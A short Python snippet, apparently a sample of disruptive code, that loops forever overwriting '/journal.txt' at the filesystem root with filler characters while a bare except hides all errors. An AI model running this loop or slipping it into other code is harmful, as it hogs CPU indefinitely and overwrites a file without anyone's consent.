while True:
    try:
        with open("/journal.txt", "w") as file:
            file.write("x" * 200)
    except:
        pass
